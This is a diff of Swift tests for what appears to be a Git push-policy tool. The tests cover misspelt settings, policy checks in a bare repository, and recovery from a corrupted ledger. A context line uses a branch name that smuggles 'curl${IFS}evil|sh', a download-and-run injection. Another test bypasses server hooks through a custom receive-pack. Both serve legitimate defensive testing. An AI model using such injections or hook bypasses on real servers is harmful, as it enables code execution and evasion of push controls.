@@ -6,6 +6,11 @@ import Testing
 /// What whoever runs a server, and whoever pushes to it, is told to do: each of it leads on.
 @Suite("what is told on a server to do next")
 struct OperatorWordsTests {
+    private static let plain = """
+        scanners: {secrets: {use: secrets}}
+        workflows: [{name: W, decide: annotate}]
+
+        """
     private static let needing = """
         scanners:
           lint: {run: ["true", "{paths}"], report: sarif, network: true}
@@ -41,6 +46,93 @@ struct OperatorWordsTests {
             try repo.server("branch", "-m", "x;curl${IFS}evil|sh", "main")
             try repo.server("symbolic-ref", "HEAD", "refs/heads/main")
             #expect(try repo.gatehouse("doctor", in: repo.serverFolder).output.contains("✓ process"))
+        }
+    }
+
+    @Test(
+        "a setting that is misspelt refuses, since without what it names a push would be judged by less; doctor says so"
+    )
+    func misspelt() async throws {
+        try await GitScenario.served { repo in
+            try repo.server("config", "gatehouse.proces", "/srv/policy.git")
+            try repo.commit("fine", files: ["a": "a\n"])
+            let push = try repo.push("origin", "main")
+            let told = NewcomerTests.words(push.error.replacing("remote: ", with: ""))
+            #expect(
+                push.status == 1 && told.contains("'gatehouse.proces' in Git's configuration is no setting"), "\(told)")
+            #expect(told.contains("did you mean gatehouse.process?"), "\(told)")
+            // Nothing was counted.
+            #expect(!told.contains("0 commits") && told.contains("Nothing was looked at"), "\(told)")
+            let doctor = try repo.gatehouse("doctor", in: repo.serverFolder)
+            #expect(doctor.status == 1 && doctor.output.contains("✗ settings"), "\(doctor.output)")
+            #expect(!doctor.output.contains("built-in"), "\(doctor.output)")
+            // In a clone it means nothing, and refuses nothing.
+            try repo.git("config", "gatehouse.trustedReff", "main")
+            let clone = NewcomerTests.words(try repo.gatehouse("doctor").output)
+            #expect(clone.contains("did you mean gatehouse.trustedRef?"), "\(clone)")
+            try repo.server("config", "--unset", "gatehouse.proces")
+            try repo.server("config", "gatehouse.trustedref", "main")
+            #expect(try repo.push("origin", "main").status == 0)
+        }
+    }
+
+    @Test("in a bare repository, process check reads what pushes to it are judged by")
+    func landedProcess() async throws {
+        try await GitScenario.served { repo in
+            let none = try repo.gatehouse("process", "check", in: repo.serverFolder)
+            #expect(none.status != 0 && none.error.contains("has no .gatehouse/process.yml"), "\(none.error)")
+            try repo.commit("process", files: [".gatehouse/process.yml": Self.plain])
+            #expect(try repo.push("origin", "main").status == 0)
+            let checked = try repo.gatehouse("process", "check", in: repo.serverFolder)
+            #expect(checked.status == 0 && checked.output.contains("✓ .gatehouse/process.yml: 1 scanner"), "\(checked)")
+            try repo.commit("wrong", files: [".gatehouse/process.yml": "scanner: {}\n"])
+            try repo.git(
+                "push", "--quiet", "--no-verify", "--receive-pack=git -c core.hooksPath=/nowhere receive-pack",
+                "origin", "main")
+            let wrong = try repo.gatehouse("process", "check", in: repo.serverFolder)
+            #expect(wrong.status != 0 && wrong.error.contains(".gatehouse/process.yml:1:1"), "\(wrong.error)")
+            // The way out that a refused push prints does.
+            try repo.commit("mended", files: [".gatehouse/process.yml": Self.plain])
+            let refused = try repo.push("origin", "main").error.replacing("remote: ", with: "")
+            let lines = refused.split(separator: "\n").map { $0.trimmingCharacters(in: .whitespaces) }
+            let steps = lines.filter { $0.hasPrefix("git tag ") || $0.hasPrefix("git config ") }
+            try #require(steps.count == 3, "\(refused)")
+            func runThere(_ step: String) throws {
+                let line = step.replacing("COMMIT", with: "main~1")
+                let run = try repo.run(["sh", "-c", "cd '\(repo.serverFolder.path)' && \(line)"])
+                try #require(run.status == 0, "\(line): \(run.error)")
+            }
+            try runThere(steps[0])
+            try runThere(steps[1])
+            #expect(try repo.push("origin", "main").status == 0)
+            try runThere(steps[2])
+            try repo.commit("more", files: ["b": "b\n"])
+            #expect(try repo.push("origin", "main").status == 0)
+        }
+    }
+
+    @Test("a damaged record is put away whole, as printed; doctor says where")
+    func damagedRecord() async throws {
+        try await GitScenario.served { repo in
+            try repo.commit("fine", files: ["a": "a\n"])
+            #expect(try repo.push("origin", "main").status == 0)
+            let ledger = repo.serverFolder.appending(path: "gatehouse/ledger.sqlite")
+            var bytes = try Data(contentsOf: ledger)
+            bytes.replaceSubrange(0..<16, with: Data("garbagegarbage!!".utf8))
+            try bytes.write(to: ledger)
+            try Data("beside it".utf8).write(to: repo.serverFolder.appending(path: "gatehouse/ledger.sqlite-wal"))
+            try repo.commit("more", files: ["a": "b\n"])
+            let told = try repo.gatehouse("log", in: repo.serverFolder).error
+            let line = try #require(told.split(separator: "\n").first { $0.contains("mkdir '") }, "\(told)")
+            let command = String(line[(line.firstRange(of: "mkdir")?.lowerBound ?? line.startIndex)...])
+            let run = try repo.run(["sh", "-c", command])
+            try #require(run.status == 0, "\(command): \(run.error)")
+            #expect(try repo.push("origin", "main").status == 0)
+            let kept = try FileManager.default.contentsOfDirectory(
+                atPath: repo.serverFolder.appending(path: "gatehouse/damaged").path)
+            #expect(Set(kept).isSuperset(of: ["ledger.sqlite", "ledger.sqlite-wal"]), "\(kept)")
+            let doctor = NewcomerTests.words(try repo.gatehouse("doctor", in: repo.serverFolder).output)
+            #expect(doctor.contains("begun after a damaged one, which lies in"), "\(doctor)")
         }
     }
 
